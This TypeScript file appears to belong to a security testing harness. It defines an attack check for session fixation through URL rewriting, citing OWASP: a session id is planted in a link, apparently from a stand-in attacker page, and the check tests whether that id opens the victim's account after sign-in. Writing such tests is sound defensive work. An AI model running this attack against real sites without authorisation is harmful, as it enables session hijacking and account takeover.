/** The victim follows the attacker's link, `https://shop/?sid=…`, and signs in. OWASP's "URL rewriting", seed 003. */
import { defineAttack } from './attack.ts'
import { Browser } from './lib/browser.ts'
import { at, settle, withQuery } from './lib/people.ts'
import { cookieNames, invent, tryDoors, visitAsStranger } from './lib/plant.ts'

export const plantedByUrl = defineAttack('F3 planted token, by URL', ['idParameters'], async (target) => {
  const seen = (await visitAsStranger(target)).jar.pairs(at(target, '/'))
  const names = cookieNames(target, seen)
  const values = [...seen.map(([, value]) => value), invent(seen[0]?.[1])]
  for (const value of values) {
    const browser = new Browser(target.address)
    const query = target.idParameters!.map((name) => `${name}=${encodeURIComponent(value)}`).join('&')
    await browser.load(withQuery(at(target, '/'), query), { from: 'https://attacker.test/links' })
    const victim = await settle(target, browser)
    const got = await tryDoors(target, victim, value, names)
    if (got) return { got: true, evidence: `after a link to /?${query.split('=')[0]}=… ${got}` }
  }
  return { got: false, evidence: `${values.length} ids in links, and none of them opens anything after sign-in` }
})
